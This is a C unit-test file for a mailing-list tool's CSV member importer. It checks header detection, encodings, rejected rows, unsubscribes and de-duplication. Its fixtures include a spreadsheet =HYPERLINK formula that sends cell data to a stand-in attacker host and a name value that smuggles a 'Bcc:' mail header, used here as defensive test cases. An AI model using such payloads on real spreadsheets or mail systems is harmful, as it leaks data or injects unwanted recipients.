/* Importing a CSV member list (store_import.c), on CSV text in memory
 * against a database in a temporary directory: which header cell is the
 * email column, attribute names from header cells, ';' and tab files,
 * Latin-1 and Windows-1252, a file that is not UTF-8 refused with one
 * error, rejected rows with their reasons and lines, unsubscribes that
 * stick, a second import that changes nothing, a dry run, case variants
 * of one address that are one subscriber, a file larger than the reader
 * thread's batches, and the export's apostrophe before a formula taken
 * off. */
#include "base/common.h"
#include "base/strbuf.h"
#include "core/address.h"
#include "store/store.h"
#include "store/store_import.h"
#include "tap.h"

#include <unistd.h>

static char dir[] = "/tmp/test_import.XXXXXX";

/* Every error and warning reported, one a line: "error: ...\n". */
static struct strbuf reports = STRBUF_INIT;

static void capture(const char *level, const char *msg)
{
	strbuf_addf(&reports, "%s: %s\n", level, msg);
}

static size_t count_lines_with(const char *text, const char *needle)
{
	size_t n = 0;
	const char *p = text;

	while ((p = strstr(p, needle))) {
		n++;
		p += strlen(needle);
	}
	return n;
}

static struct store *open_db(const char *name)
{
	struct strbuf path = STRBUF_INIT;
	struct store *st;

	strbuf_addf(&path, "%s/%s", dir, name);
	st = store_open(path.buf);
	strbuf_release(&path);
	return st;
}

struct run {
	enum store_import_outcome res;
	struct store_import_counts n;
	struct strbuf rejects;
};

/* Import `len` bytes of CSV (named "m.csv") into `o->list`; the report in r. */
static void import_opts(struct store *st, const char *csv, size_t len,
			const struct store_import_opts *o, struct run *r)
{
	FILE *in = fmemopen((void *)csv, len, "r");
	char *buf = NULL;
	size_t size = 0;
	FILE *rejects = open_memstream(&buf, &size);

	if (!in || !rejects) {
		perror("fmemopen/open_memstream");
		exit(1);
	}
	strbuf_reset(&reports);
	r->res = store_import(st, in, "m.csv", o, rejects, &r->n);
	fclose(in);
	fclose(rejects);
	strbuf_reset(&r->rejects);
	strbuf_add(&r->rejects, buf, size);
	free(buf);
}

static void import(struct store *st, const char *csv, const char *list, struct run *r)
{
	struct store_import_opts o = { .list = list };

	import_opts(st, csv, strlen(csv), &o, r);
}

/* The name of `email` on `list`, or the value of its attribute `key`, into out; 1 if found. */
static int member_field(struct store *st, const char *list, const char *email,
			const char *key, struct strbuf *out)
{
	struct store_cursor *c = store_member_open(st, list, email);
	const struct store_recipient *m = c ? store_cursor_next(c) : NULL;
	int found = 0;
	size_t i;

	strbuf_reset(out);
	if (m && !key) {
		strbuf_addstr(out, m->name);
		found = 1;
	}
	for (i = 0; m && key && i < m->nattrs; i++)
		if (!strcmp(m->attr_keys[i], key)) {
			strbuf_addstr(out, m->attr_values[i]);
			found = 1;
		}
	store_cursor_close(c);
	return found;
}

static void test_email_column(void)
{
	static const char *const headers[] = {
		"email", "EMAIL", "E-mail", "E-Mail", "Email Address", "e-mail address",
		"EmailAddress", "Mail", "Courriel", "Correo", "E-Mail-Adresse",
	};
	struct store *st = open_db("header.db");
	struct strbuf csv = STRBUF_INIT, email = STRBUF_INIT;
	struct run r = { .rejects = STRBUF_INIT };
	size_t i;

	for (i = 0; i < ARRAY_SIZE(headers); i++) {
		strbuf_reset(&csv);
		strbuf_reset(&email);
		strbuf_addf(&email, "h%zu@example.org", i);
		strbuf_addf(&csv, "Name,%s\nH %zu,%s\n", headers[i], i, email.buf);
		import(st, csv.buf, "members", &r);
		ok(r.res == STORE_IMPORT_DONE && r.n.added == 1 &&
		   store_member_status(st, email.buf, "members") == STORE_ACTIVE,
		   "a header '%s' is the email column", headers[i]);
	}

	import(st, "Adresse,Nom\nz@example.org,Z\n", "members", &r);
	is_int(r.res, STORE_IMPORT_REFUSED, "no email column: the file is refused");
	ok(strstr(reports.buf, "error: m.csv:1: no 'email' column in the header row, which has 2 "
		  "column(s): 'Adresse', 'Nom'; the first row must name the columns, e.g. email,name\n") != NULL,
	   "  the error shows the header it found");
	ok(strstr(reports.buf, "error: m.csv: nothing was imported\n") != NULL, "  and says nothing was imported");
	import(st, "a,b,c,d,e,f,g,h,i\n1,2,3,4,5,6,7,8,9\n", "members", &r);
	ok(strstr(reports.buf, "which has 9 column(s): 'a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', ...;") != NULL,
	   "  a wide header is shown up to 8 cells");
	import(st, "email,e-mail\na@example.org,b@example.org\n", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED &&
	   strstr(reports.buf, "error: m.csv:1: the column 'e_mail' appears twice\n"),
	   "two email columns refuse the file");
	import(st, "email,name,Name\na@example.org,A,B\n", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED && strstr(reports.buf, "the column 'name' appears twice"),
	   "two name columns refuse the file");
	import(st, "email,Country,country\na@example.org,Italy,France\n", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED &&
	   strstr(reports.buf, "columns 2 ('Country') and 3 ('country') are both the attribute 'country'"),
	   "two columns that become one attribute refuse the file (one would lose its values)");
	strbuf_release(&csv);
	strbuf_release(&email);
	strbuf_release(&r.rejects);
	store_close(st);
}

static void test_attributes(void)
{
	struct store *st = open_db("attrs.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf v = STRBUF_INIT;

	import(st, "Email,Name,Member type,Home-Town,year2\n"
		   "ana@example.org,Ana,full,Porto,2019\n", "members", &r);
	is_int(r.res, STORE_IMPORT_DONE, "attribute columns import");
	ok(member_field(st, "members", "ana@example.org", "member_type", &v) && !strcmp(v.buf, "full"),
	   "  'Member type' is the attribute member_type");
	ok(member_field(st, "members", "ana@example.org", "home_town", &v) && !strcmp(v.buf, "Porto"),
	   "  'Home-Town' is home_town");
	ok(member_field(st, "members", "ana@example.org", "year2", &v) && !strcmp(v.buf, "2019"),
	   "  digits are kept");
	ok(member_field(st, "members", "ana@example.org", NULL, &v) && !strcmp(v.buf, "Ana"),
	   "  the name column is the name, no attribute");
	ok(!member_field(st, "members", "ana@example.org", "email", &v) &&
	   !member_field(st, "members", "ana@example.org", "name", &v),
	   "  email and name are not attributes");

	import(st, "email,city\nana@example.org,Lisboa\n", "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.updated == 1, "a file without a name column updates");
	ok(member_field(st, "members", "ana@example.org", NULL, &v) && !strcmp(v.buf, "Ana"),
	   "  and keeps the name");
	ok(member_field(st, "members", "ana@example.org", "member_type", &v) && !strcmp(v.buf, "full"),
	   "  and the attributes it does not name");

	import(st, "email,Pr\xc3\xa9nom\nbo@example.org,Bo\n", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED &&
	   strstr(reports.buf, "error: m.csv:1: column 2 ('Pr\xc3\xa9nom') cannot be an attribute: "
		  "name it with letters, digits and '_'\n"),
	   "a header cell that cannot be a key refuses the file, naming the column");
	ok(store_member_status(st, "bo@example.org", "members") == STORE_NONE, "  nothing imported");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

static void test_delimiters(void)
{
	struct store *st = open_db("delim.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf v = STRBUF_INIT;
	struct store_import_opts o = { .list = "f", .delim = ';' };
	static const char commas[] = "email,name\ndi@example.org,Di\n";
	static const char semis[] = "email;name\ndi@example.org;Di, Jr.\n";

	import(st, "E-Mail;Name;Stadt\r\nanna@example.org;Anna M\xc3\xbcller;\"K\xc3\xb6ln; Ehrenfeld\"\r\n"
		   "ben@example.org;Ben;Graz\r\n", "de", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 2, "a ';' file is detected and imports");
	ok(member_field(st, "de", "anna@example.org", "stadt", &v) && !strcmp(v.buf, "K\xc3\xb6ln; Ehrenfeld"),
	   "  a quoted ';' stays in its field");
	import(st, "email\tname\ncy@example.org\tCy, Jr.\n", "t", &r);
	ok(r.res == STORE_IMPORT_DONE && member_field(st, "t", "cy@example.org", NULL, &v) &&
	   !strcmp(v.buf, "Cy, Jr."), "a tab file is detected; a comma stays in the name");
	import_opts(st, commas, strlen(commas), &o, &r);
	ok(r.res == STORE_IMPORT_REFUSED &&
	   strstr(reports.buf, "error: m.csv:1: column 1 ('email,name') cannot be an attribute"),
	   "a given delimiter is used, not detected: 'email,name' is one cell");
	o.delim = ';';
	o.list = "g";
	import_opts(st, semis, strlen(semis), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && member_field(st, "g", "di@example.org", NULL, &v) &&
	   !strcmp(v.buf, "Di, Jr."), "  and splits at it only");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

static void test_encodings(void)
{
	static const char latin1[] = "email,name\nal@example.org,Al\nzoe@example.org,Zo\353\n"
				     "em@example.org,\311mile\n";
	static const char cp[] = "email,name\nfr@example.org,\223Fran\347ois\224 \200\n";
	static const char nul[] = "email,name\nnul@example.org,a\0b\n";
	struct store *st = open_db("enc.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf v = STRBUF_INIT;
	struct store_import_opts o = { .list = "l1" };

	import_opts(st, latin1, strlen(latin1), &o, &r);
	is_int(r.res, STORE_IMPORT_REFUSED, "a Latin-1 file read as UTF-8 is refused");
	is_int((long long)count_lines_with(reports.buf, "not UTF-8"), 1, "  with one error, for two bad rows");
	ok(strstr(reports.buf, "error: m.csv:3: column 2 is not UTF-8 (byte 0xEB); save the file as "
		  "\"CSV UTF-8\", or give --encoding cp1252 (Excel on Windows) or latin1\n") != NULL,
	   "  naming the first bad line, column and byte, and what to do");
	ok(store_member_status(st, "al@example.org", "l1") == STORE_NONE, "  the ASCII rows are not imported");
	is_int(store_list_exists(st, "l1"), 0, "  nor the list created");
	import_opts(st, nul, sizeof(nul) - 1, &o, &r);
	ok(r.res == STORE_IMPORT_REFUSED && strstr(reports.buf, "column 2 is not UTF-8 (byte 0x00)"),
	   "a NUL byte is refused as not UTF-8");

	o.encoding = STORE_IMPORT_LATIN1;
	import_opts(st, latin1, strlen(latin1), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 3, "--encoding latin1 imports it");
	ok(member_field(st, "l1", "zoe@example.org", NULL, &v) && !strcmp(v.buf, "Zo\xc3\xab"), "  Zo\xc3\xab");
	ok(member_field(st, "l1", "em@example.org", NULL, &v) && !strcmp(v.buf, "\xc3\x89mile"), "  \xc3\x89mile");
	o.list = "cp";
	import_opts(st, cp, strlen(cp), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.rejected == 1 && !r.n.added,
	   "latin1 reads 0x80-0x9F as C1 controls: the name is rejected");
	o.encoding = STORE_IMPORT_CP1252;
	import_opts(st, cp, strlen(cp), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 1 && member_field(st, "cp", "fr@example.org", NULL, &v) &&
	   !strcmp(v.buf, "\xe2\x80\x9c" "Fran\xc3\xa7ois\xe2\x80\x9d \xe2\x82\xac"),
	   "cp1252: curly quotes and the euro sign");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

static void test_rejects(void)
{
	static const char *const bad[] = { "not-an-address", "a@b@example.org" };
	struct store *st = open_db("rejects.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf want = STRBUF_INIT, norm = STRBUF_INIT;
	const char *reason[ARRAY_SIZE(bad)], *name_reason = NULL;
	size_t i;

	/* The reasons are address.c's: take them from there. */
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		reason[i] = NULL;
		ok(address_validate(bad[i], &norm, &reason[i]) < 0 && reason[i],
		   "'%s' is no address (for the test)", bad[i]);
	}
	ok(address_check_name("Eve\nBcc: x@example.org", &name_reason) < 0 && name_reason,
	   "a name with a line break is refused (for the test)");

	import(st, "email,name,note\n"
		   "good@example.org,Good,\"two\nlines\"\n"		/* lines 2-3 */
		   "not-an-address,Bad,x\n"				/* 4 */
		   "short@example.org,Short\n"				/* 5 */
		   "long@example.org,Long,x,y\n"			/* 6 */
		   "\n"							/* 7: blank, skipped */
		   "a@b@example.org,Two Ats,x\n"			/* 8 */
		   "eve@example.org,\"Eve\nBcc: x@example.org\",x\n"	/* 9-10 */
		   "Last@EXAMPLE.org,Last,x\n",				/* 11 */
		   "members", &r);
	is_int(r.res, STORE_IMPORT_DONE, "rejected rows do not stop the import");
	ok(r.n.added == 2 && r.n.rejected == 5 && !r.n.updated && !r.n.unchanged && !r.n.skipped,
	   "  2 added, 5 rejected");
	strbuf_addf(&want, "m.csv:4: rejected 'not-an-address': %s\n", reason[0]);
	strbuf_addstr(&want, "m.csv:5: rejected 'short@example.org': fewer fields than the header row\n");
	strbuf_addstr(&want, "m.csv:6: rejected 'long@example.org': more fields than the header row\n");
	strbuf_addf(&want, "m.csv:8: rejected 'a@b@example.org': %s\n", reason[1]);
	strbuf_addf(&want, "m.csv:9: rejected 'eve@example.org': %s\n", name_reason);
	is_str(r.rejects.buf, want.buf, "  one line each, with the physical line and the reason");
	ok(store_member_status(st, "good@example.org", "members") == STORE_ACTIVE &&
	   store_member_status(st, "Last@example.org", "members") == STORE_ACTIVE,
	   "  the good rows are stored, the address normalized");
	ok(!strstr(reports.buf, "error"), "  and no error is reported");

	import(st, "name,email,x\nOnly A Name\n", "members", &r);
	is_str(r.rejects.buf, "m.csv:2: rejected: fewer fields than the header row\n",
	       "a row without the email field is reported without one");
	import(st, "email\n'\x1b[31mred@example.org\n", "members", &r);
	ok(r.n.rejected == 1 && strstr(r.rejects.buf, "rejected '\\'\\x1b[31mred@example.org'") != NULL,
	   "the email is shown with quotes and escapes escaped");
	strbuf_release(&want);
	strbuf_release(&norm);
	strbuf_release(&r.rejects);
	store_close(st);
}

static void test_sticky_and_again(void)
{
	static const char csv[] = "email,name,city\nuna@example.org,Una,Oslo\nsam@example.org,Sam,Rome\n"
				  "vic@example.org,Vic,Lima\n";
	struct store *st = open_db("sticky.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct store_import_opts o = { .list = "members" };
	struct strbuf v = STRBUF_INIT;

	import(st, csv, "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 3, "a first import adds 3");
	import(st, csv, "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.unchanged == 3 && !r.n.added && !r.n.updated && !r.n.skipped,
	   "importing it again changes nothing (3 unchanged)");

	is_int(store_unsubscribe(st, "una@example.org", "members", "cli"), STORE_ACTIVE, "una unsubscribes");
	is_int(store_suppress(st, "sam@example.org", "manual"), 0, "sam is suppressed");
	import(st, "email,name,city\nuna@example.org,Una,Bergen\nsam@example.org,Sam,Rome\n"
		   "vic@example.org,Vic,Lima\n", "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.skipped == 2 && r.n.unchanged == 1,
	   "the unsubscribed and the suppressed are skipped");
	is_int(store_member_status(st, "una@example.org", "members"), STORE_UNSUBSCRIBED,
	       "  una stays unsubscribed");
	ok(member_field(st, "members", "una@example.org", "city", &v) && !strcmp(v.buf, "Oslo"),
	   "  and her data is left alone");
	is_int(store_deliverable(st, "sam@example.org", "members"), 0, "  sam is still not mailed");
	import(st, csv, "other", &r);
	ok(r.n.added == 2 && r.n.skipped == 1 && store_member_status(st, "una@example.org", "other") == STORE_ACTIVE,
	   "on another list una is added, the suppressed sam skipped");

	o.flags = STORE_RESUBSCRIBE;
	import_opts(st, csv, strlen(csv), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.updated == 2 && r.n.unchanged == 1,
	   "with STORE_RESUBSCRIBE they are re-activated");
	is_int(store_deliverable(st, "una@example.org", "members"), 1, "  una is active again");

	o.flags = 0;
	o.dry_run = 1;
	o.list = "dry";
	import_opts(st, csv, strlen(csv), &o, &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 3, "a dry run counts");
	is_int(store_list_exists(st, "dry"), 0, "  and saves nothing");

	import(st, "", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED &&
	   strstr(reports.buf, "error: m.csv: the file is empty; the first row must name the columns, e.g. email,name\n"),
	   "an empty file is refused");
	import(st, "email,name\nx@example.org,\"Xavier\"junk\ny@example.org,Y\n", "members", &r);
	ok(r.res == STORE_IMPORT_REFUSED && strstr(reports.buf, "m.csv:2:") &&
	   store_member_status(st, "y@example.org", "members") == STORE_NONE,
	   "malformed quoting refuses the file, naming the line; nothing is imported");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

/*
 * The local part is compared without regard to case: a variant of an
 * unsubscribed or suppressed address is skipped like the address, a
 * variant of a member (or of an earlier row) is that member, and the
 * address stays as first written.
 */
static long count_members(struct store *st, const char *list)
{
	struct store_cursor *c = store_members_open(st, list, STORE_NONE);
	long n = 0;

	while (c && store_cursor_next(c))
		n++;
	store_cursor_close(c);
	return n;
}

static void test_case_variants(void)
{
	struct store *st = open_db("case.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf v = STRBUF_INIT;
	struct store_cursor *c;
	const struct store_recipient *rec;

	import(st, "email\nerin@example.org\nsup@example.org\n", "members", &r);
	is_int(store_unsubscribe(st, "erin@example.org", "members", "cli"), STORE_ACTIVE, "erin unsubscribes");
	is_int(store_suppress(st, "sup@example.org", "manual"), 0, "sup is suppressed");
	import(st, "email,name\nErin@example.org,Erin\nERIN@EXAMPLE.ORG,E2\nSUP@example.org,S\n", "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.skipped == 3 && !r.n.added && !r.n.updated,
	   "case variants of the unsubscribed and the suppressed are skipped (%ld added, %ld skipped)",
	   r.n.added, r.n.skipped);
	is_int(store_count(st, "members"), 0, "  nobody is mailed");
	is_int(count_members(st, "members"), 2, "  and no second row appeared");

	import(st, "email,name,city\nAmy@example.org,Amy,Oslo\namy@example.org,Amy,Oslo\n"
		   "AMY@example.org,Amy A.,Rome\n", "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 1 && r.n.unchanged == 1 && r.n.updated == 1,
	   "three variants in one file: one added, then the same subscriber");
	is_int(store_count(st, "members"), 1, "  one recipient");
	c = store_recipients_open(st, "members");
	rec = c ? store_cursor_next(c) : NULL;
	ok(rec && !strcmp(rec->email, "Amy@example.org") && !strcmp(rec->name, "Amy A."),
	   "  sent to as first written, with the last row's name");
	store_cursor_close(c);
	ok(member_field(st, "members", "amy@example.org", "city", &v) && !strcmp(v.buf, "Rome"),
	   "  and its data");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

/* More rows than two of the reader's batches, one bad in the middle. */
static void test_large(void)
{
	struct store *st = open_db("large.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf csv = STRBUF_INIT;
	int i;

	strbuf_addstr(&csv, "email,name,n\r\n");
	for (i = 0; i < 5000; i++) {
		if (i == 2500)
			strbuf_addstr(&csv, "broken,Broken,x\r\n");
		strbuf_addf(&csv, "m%d@example.org,Member %d,%d\r\n", i, i, i);
	}
	import(st, csv.buf, "big", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 5000 && r.n.rejected == 1,
	   "5,001 rows: 5,000 added, 1 rejected");
	ok(strstr(r.rejects.buf, "m.csv:2502: rejected 'broken':") == r.rejects.buf, "  on its line");
	is_int(store_count(st, "big"), 5000, "  all 5,000 stored");
	import(st, csv.buf, "big", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.unchanged == 5000 && r.n.rejected == 1,
	   "again: 5,000 unchanged");
	strbuf_release(&csv);
	strbuf_release(&r.rejects);
	store_close(st);
}

/*
 * The apostrophe an export puts before a field a spreadsheet would run as
 * a formula (core/csvio.h) is taken off, in the email column too: a local
 * part may start with '-', '+' or '='.
 */
static void test_formula_guard(void)
{
	struct store *st = open_db("formula.db");
	struct run r = { .rejects = STRBUF_INIT };
	struct strbuf v = STRBUF_INIT;

	import(st, "email,name,phone,note\n"
		   "'-dash@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\",'+33 1 23,''=x\n"
		   "'=eq@example.org,'@Ann,'quoted',\"'\t-tab\"\n", "members", &r);
	ok(r.res == STORE_IMPORT_DONE && r.n.added == 2 && !r.n.rejected,
	   "a file written with the formula guard imports: %s", r.rejects.buf);
	ok(store_member_status(st, "-dash@example.org", "members") == STORE_ACTIVE &&
	   store_member_status(st, "=eq@example.org", "members") == STORE_ACTIVE,
	   "  the email without its apostrophe");
	ok(member_field(st, "members", "-dash@example.org", NULL, &v) &&
	   !strcmp(v.buf, "=HYPERLINK(\"https://evil.example/?\"&A3,\"Click\")"),
	   "  the name as it was typed: %s", v.buf);
	ok(member_field(st, "members", "-dash@example.org", "phone", &v) && !strcmp(v.buf, "+33 1 23"),
	   "  an attribute too");
	ok(member_field(st, "members", "-dash@example.org", "note", &v) && !strcmp(v.buf, "'=x"),
	   "  exactly one apostrophe off: ''=x is '=x");
	ok(member_field(st, "members", "=eq@example.org", NULL, &v) && !strcmp(v.buf, "@Ann"),
	   "  '@Ann is @Ann");
	ok(member_field(st, "members", "=eq@example.org", "phone", &v) && !strcmp(v.buf, "'quoted'"),
	   "  an apostrophe before anything else is data");
	ok(member_field(st, "members", "=eq@example.org", "note", &v) && !strcmp(v.buf, "\t-tab"),
	   "  '<tab> loses its apostrophe");
	strbuf_release(&v);
	strbuf_release(&r.rejects);
	store_close(st);
}

int main(void)
{
	if (!mkdtemp(dir)) {
		perror("mkdtemp");
		return 1;
	}
	set_report_routine(capture);
	test_email_column();
	test_attributes();
	test_delimiters();
	test_encodings();
	test_rejects();
	test_sticky_and_again();
	test_case_variants();
	test_large();
	test_formula_guard();
	set_report_routine(NULL);
	if (!tap_failed) {
		struct strbuf cmd = STRBUF_INIT;

		strbuf_addf(&cmd, "rm -rf '%s'", dir);
		if (system(cmd.buf) != 0)
			diag("could not remove %s", dir);
		strbuf_release(&cmd);
	}
	strbuf_release(&reports);
	return tap_done();
}
